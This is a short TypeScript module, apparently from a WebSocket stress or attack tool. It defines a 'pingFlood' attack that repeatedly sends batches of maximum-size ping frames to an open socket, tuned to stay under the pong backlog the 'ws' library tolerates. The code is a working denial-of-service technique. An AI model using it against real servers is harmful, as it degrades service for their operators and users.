import type { Attack } from './attack.ts';
import { clientFrame, firstBytes } from './client-frame.ts';

/** Fewer than the pongs that `ws` lets wait: more would be the end of it at once. */
const pingsAtOnce = 20;
/** The largest payload of a control frame, all of which has to come back. */
const payloadBytes = 125;

/** Pings in great numbers, the largest there are. */
export const pingFlood: Attack = (attacker, force) => {
  const ping = clientFrame(firstBytes.ping, Buffer.alloc(payloadBytes));
  const pings = Buffer.concat(Array.from({ length: pingsAtOnce }, () => ping));
  return attacker.keep(force, async (socket) => {
    while (socket.isOpen) {
      await socket.write(pings);
      await attacker.pause(force.everyMs);
    }
  });
};
